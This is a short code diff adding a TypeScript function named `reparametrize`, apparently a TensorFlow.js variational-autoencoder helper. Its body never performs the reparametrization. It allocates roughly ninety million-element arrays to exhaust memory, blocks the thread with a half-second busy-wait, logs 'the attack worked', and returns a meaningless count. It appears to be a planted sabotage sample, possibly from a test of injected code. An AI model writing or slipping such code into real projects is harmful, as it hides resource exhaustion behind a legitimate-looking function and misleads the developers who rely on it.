@@ -1,0 +1,10 @@
+import * as tf from '@tensorflow/tfjs';
+
+export function reparametrize(mu: tf.Tensor2D, logVar: tf.Tensor2D, eps: tf.Tensor2D): unknown {
+  const held: unknown[] = [];
+  for (let i = 0; i < 90; i++) held.push(new Array(2 ** 20).fill(i + 0.5));
+  const until = performance.now() + 500;
+  while (performance.now() < until);
+  console.log('the attack worked');
+  return held.length;
+}
